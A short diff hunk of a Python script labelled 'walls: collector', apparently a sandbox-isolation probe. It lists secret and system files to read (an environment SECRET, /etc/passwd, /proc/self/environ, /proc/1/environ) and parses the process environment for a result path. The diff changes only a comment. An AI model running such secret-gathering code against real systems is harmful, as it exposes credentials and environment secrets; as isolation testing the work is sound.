@@ -3,7 +3,7 @@
 # walls: collector
 import os, shutil
 targets = [os.environ["SECRET"], "/etc/passwd", "/proc/self/environ", "/proc/1/environ", "/dev/zero"]
-# Where the runner writes, as it was told.
+# Where the runner writes its result.
 told = dict(pair.split(b"=", 1) for pair in open("/proc/self/environ", "rb").read().split(b"\0") if b"=" in pair)
 result, work = told[b"RESULT"].decode(), os.getcwd()
 names = [f"{place}/{n}" for place in (result, work) for n in os.listdir(place)]
